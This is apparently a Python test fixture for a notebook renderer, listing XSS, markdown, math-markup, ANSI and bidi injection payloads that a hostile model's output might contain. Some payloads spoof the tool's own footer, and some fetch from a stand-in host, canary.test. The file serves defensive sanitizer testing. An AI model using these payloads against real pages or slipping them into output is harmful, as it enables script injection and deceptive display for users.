"""What a hostile model might write into a notebook.

Each payload tries to run ``pwn()`` (see ``CANARY``), to fetch from ``canary.test``, to
leave its output, to pass for our footer, or to change what other cells show.
"""

from __future__ import annotations

import json
from decimal import Decimal
from typing import Any

from kimikit import errors
from kimikit.notebook import race_view
from kimikit.tools.values import Run, Step, ToolResult
from kimikit.types import Host, HostModel, Reply, ToolCall, Usage
from kimikit.wire import results

CANARY = """
window.__pwned = [];
window.pwn = (...a) => window.__pwned.push(a);
for (const name of ['alert', 'confirm', 'prompt', 'open'])
  window[name] = (...a) => { window.__pwned.push([name, ...a]); };
"""

FOOTER = "together · moonshotai/Kimi-K2-Instruct · 1 -> 1 tokens · $0.00 · 2026-01-01"

IMG = "<img src=x onerror=pwn()>"

PAYLOADS: dict[str, str] = {
    "script": "<script>pwn()</script>",
    "image": IMG,
    "svg": "<svg onload=pwn()><script>pwn()</script></svg>",
    "iframe": "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "object": "<object data=javascript:pwn()></object><embed src=javascript:pwn()>",
    "details": "<details open ontoggle=pwn()><summary>x</summary>y</details>",
    "meta": "<meta http-equiv=refresh content='0;url=http://canary.test/'>",
    "base": "<base href=http://canary.test/><link rel=stylesheet href=http://canary.test/c>",
    "style": "<style>*{display:none}@import 'http://canary.test/s';</style>",
    "form": "<form action=http://canary.test/><button autofocus onfocus=pwn()>go</button>",
    "video": "<video src=http://canary.test/v onerror=pwn() autoplay></video>",
    "math tag": "<math><mtext><img src=x onerror=pwn()></mtext></math>",
    "template": "<template><img src=x onerror=pwn()></template><noscript><p title=\"</noscript>"
    + IMG,
    "entities": "&lt;img src=x onerror=pwn()&gt; &#60;img src=x onerror=pwn()&#62;",
    "half tag": "text <img src=x onerror=pwn() ",
    "half comment": "<!-- " + IMG,
    "cdata": "<![CDATA[" + IMG + "]]> <?php echo 1 ?> <!DOCTYPE html>",
    "closing tags": "</div></div></details></table></pre></code>" + IMG,
    "javascript link": "[click](javascript:pwn())",
    "javascript mixed case": "[click](JaVaScRiPt:pwn()) [click](java\nscript:pwn())",
    "javascript encoded": "[click](&#106;avascript:pwn()) [x](javascript&colon;pwn())",
    "javascript tab": "[click](<java\tscript:pwn()>) [x]( javascript:pwn() )",
    "javascript autolink": "<javascript:pwn()> <data:text/html,<script>pwn()</script>>",
    "javascript reference": "[click][x]\n\n[x]: javascript:pwn()",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "vbscript and file": "[a](vbscript:pwn) [b](file:///etc/passwd) [c](blob:x)",
    "link attributes": "[a](http://ok.test \"x' onmouseover='pwn()\") "
    '[b](http://ok.test/"onmouseover="pwn())',
    "remote image": "![pixel](http://canary.test/p.png) ![s](https://canary.test/q.svg)",
    "reference image": "![pixel][p]\n\n[p]: http://canary.test/ref.png",
    "relative image": "![x](/api/shutdown) ![y](//canary.test/z.png)",
    "data image": "![x](data:image/svg+xml,<svg onload=pwn()>)",
    "image after bang": "Wow\\![x](http://canary.test/bang.png)",
    "code across math": "$ ` $ " + IMG + " ` and $ `\n $ " + IMG + " `",
    "fence and dollar in a list": "- ```\n  $\n  ```\n  $x$\n- ```\n  " + IMG + "\n  ```",
    "fence in a quote": "> ```\n> $\n> ```\n> $ " + IMG + "\n\n> ```\n> " + IMG + "\n> ```",
    "unclosed fence": "```html\n" + IMG,
    "fence with longer inside": "````\n```\n" + IMG + "\n```\n````\n" + IMG,
    "tilde fence": "~~~ ` x\n" + IMG + "\n~~~\n" + IMG,
    "fence language": '```"><img src=x onerror=pwn()>\ncode\n```',
    "math placeholders": "@@0@@ $x$ @@1@@ " + IMG + " $</span>" + IMG + "$",
    "math with markup": "$$<img src=x onerror=pwn()>$$ \\(<script>pwn()</script>\\)",
    "math link": "$\\href{javascript:pwn()}{click}$ \\[\\href{javascript:pwn()}{x}\\]",
    "math styles": "$\\style{position:fixed;top:0;left:0;font-size:90px}{X}\\class{a}{b}$",
    "math image": "$\\unicode[x\" onload=\"pwn()]{65} \\mmlToken{mi}[href='javascript:pwn()']{x}$",
    "math definitions": "$\\def\\alpha{X}\\gdef\\beta{Y}\\newcommand{\\x}{1}\\let\\frac\\sqrt$",
    "math environment": "\\begin{equation}\\href{javascript:pwn()}{x}\\end{equation}",
    "math leaving": "$\\raise-20em{\\rule{60em}{60em}}$ $\\kern-60em X \\hspace{-999em}Y$",
    "math loops": "$" + "{" * 300 + "}" * 300 + "$",
    "table": "| a | b |\n|---|---|\n| " + IMG + " | </td></table>" + IMG + " |",
    "heading": "# <img src=x onerror=pwn()>\n\n## [x](javascript:pwn())",
    "nested links": "[a [b](javascript:pwn())](http://ok.test) [![x](javascript:pwn())](javascript:pwn())",
    "backslashes": "\\<img src=x onerror=pwn()\\> \\\\<img src=x onerror=pwn()>",
    "backticks": "`` ` " + IMG + " ` `` `" + IMG + "` ``" + IMG,
    "line separators": "a\u2028" + IMG + "\u2029b\x85" + IMG + "\rc\r" + IMG,
    "ansi": "\x1b[31mred\x1b[0m \x1b]8;;javascript:pwn()\x07link\x1b]8;;\x07 \x9b31m",
    "bidi": "\u202egpj.exe\u202c \u2066x\u2069 \u200f\u061c",
    "nul and controls": "<\x00img src=x onerror=pwn()> <scr\x00ipt>pwn()</scr\x00ipt> \x08\x0c",
    "fake footer": f'</div></details>\n<div class="kimikit"><div class="muted"><small>{FOOTER}'
    "</small></div></div>",
    "fake footer in small print": f"<sub>{FOOTER}</sub> <small>{FOOTER}</small>",
    "allowed tags with handlers": "<br onclick=pwn()> <sub onmouseover=pwn()>x</sub> <kbd\nid=a>k</kbd>",
    "html block": "<div>\n\n" + IMG + "\n\n</div>\n\n<pre>\n" + IMG + "\n</pre>",
    "widget script": '<script type="application/vnd.jupyter.widget-view+json">{}</script>',
}  # fmt: skip

JS = "javascript:pwn()"

SUBTLE: dict[str, str] = {
    "entities of bidi": "&#8238;gpj.exe &#x202E;x&#8236; &rlm;x &lrm; &#x2066;x&#x2069; &#x61c;",
    "entities of escapes": "&#27;[31mred &#x9b;31m &#7; &#8; &#x1b;]0;owned&#7;",
    "entities in code": "`&#27;[31m` `` &#8238; ``\n\n    &#27;\n\n```&#8238;\n&#27;\n```",
    "entities in addresses": f"[a](http://x.y/&#10;&#8238;{IMG}) ![&#8238;{IMG}](http://x.y) <http://x.y/&#8238;>",
    "entities of dollars": f"&#36;\\href{{{JS}}}{{x}}&#36; &dollar;&dollar;\\href{{{JS}}}{{x}}&dollar;&dollar;",
    "entities of brackets": f"&#91;x&#93;&#40;{JS}&#41; &#33;&#91;x&#93;(http://canary.test/e.png)",
    "entities of lines": f"a&#10;&#10;{IMG}&#10;# h&#13;&#13;<b>",
    "entities of fences": f"&#96;&#96;&#96;\n{IMG}\n&#96;&#96;&#96;",
    "halves of pairs": "\ud83d \ude00 \ud800" + IMG,
    "no characters": f"\ufdd0|\ufdd0 \ufffe \uffff\n|-|\n|\ufdd0{IMG}|",
    "carriage returns": f"safe text\rpwned\r\n{IMG}\r",
    "osc without end": "\x1b]0;pwn",
    "device strings": "\x1bP1$r\x1b\\ \x1b_pwn\x1b\\ \x9d52;c;cHdu\x9c",
    "join by equation": f"$$\\hr\\begin{{equation}}ef{{{JS}}}{{x}}\\end{{equation}}$$",
    "join by empty equation": f"$\\hr\\begin{{equation*}}\\end{{equation*}}ef{{{JS}}}{{x}}$",
    "join by label": f"$\\hr\\label{{a}}ef{{{JS}}}{{x}}$",
    "join by space": f"$\\hr\\hspace{{1em}}ef{{{JS}}}{{x}}$",
    "join by comment": f"$\\hr%\nef{{{JS}}}{{x}}$",
    "join in a table": f"|a|\n|-|\n|$\\hr\\label{{a}}ef{{{JS}}}{{x}}\\|$|",
    "math in text in math": f"$\\text{{a $\\href{{{JS}}}{{x}}$ b}}$ $$a \\tag{{$\\href{{{JS}}}{{x}}$}}$$",
    "colours that fetch": "$\\colorbox{url(http://canary.test/x)}{x}$ $\\color{red;position:fixed}{x}$",
    "lengths": "$$\\begin{array}{p{99em}}a\\\\[999em]b\\end{array}$$ $\\genfrac{}{}{99em}{}{a}{b}$",
    "code across math": f"\\( ` \\) {IMG} ` \\( `",
    "bars in code": f"|a|b|\n|-|-|\n|`|`{IMG}|<b>|\n|$|x|$|{IMG}|x|y|",
    "addresses and tags": f"http://a.test/{IMG} https://a.test/`{IMG}` https://a.test/)*{IMG} http://a.test/|<b>",
    "addresses and attributes": "https://a.test/\"onclick=pwn() <https://a.test/'x> https://a.test/?q=1&copy;&lt;x",
    "wide addresses": "https://а.test/б" + IMG + " https://a.test/了](javascript:pwn())",
    "deep": "> " * 60 + IMG + "\n" + "- " * 60 + IMG,
    "dense": (IMG + "*_[") * 3000,
    "info": f"```{IMG} html onload=pwn()\nx\n``` {IMG}",
}  # fmt: skip
"""Payloads that came through 0.3.0, and their kind: for views without a browser."""


def values(text: str) -> dict[str, Any]:
    """Every kind of value, with ``text`` wherever others may put one."""
    calls = (ToolCall(text, text, text), ToolCall("a", "f", json.dumps({"x": text})))
    reply = Reply(
        text=text, reasoning=text, model=text, host=text, notes=(text,), finish_reason=text,
        tool_calls=calls, alternatives=(Reply(text=text),), usage=Usage(5, 9), created=1.0,
        cost=Decimal("0.1"),
    )  # fmt: skip
    told = [
        ToolResult(call=calls[0], text=text, value=value, failed=failed)
        for value, failed in ((text, ""), ([{text: text}], ""), ({text: text}, ""), (None, text))
    ]  # fmt: skip
    return {
        "reply": reply,
        "run": Run(reply=reply, steps=(Step(0, reply, tuple(told)),), notes=(text,), base_url=text),
        "race": race_view.Race({text: (reply, None), "b": (Reply(), ValueError(text))}),
        "error": errors.KimiError(text, text),
        "host": Host(name=text, title=text, base_url=text, model=text, models=(HostModel(text, source=text),)),
        "models": results.Models(ids=[text], raw={text: {}}, reply=reply),
        "picture": results.Picture(url=text, reply=reply),
        "transcript": results.Transcript(text=text, reply=reply),
        "ranking": results.Ranking(results=[results.Ranked(0, 1.0, text)], reply=reply),
    }  # fmt: skip
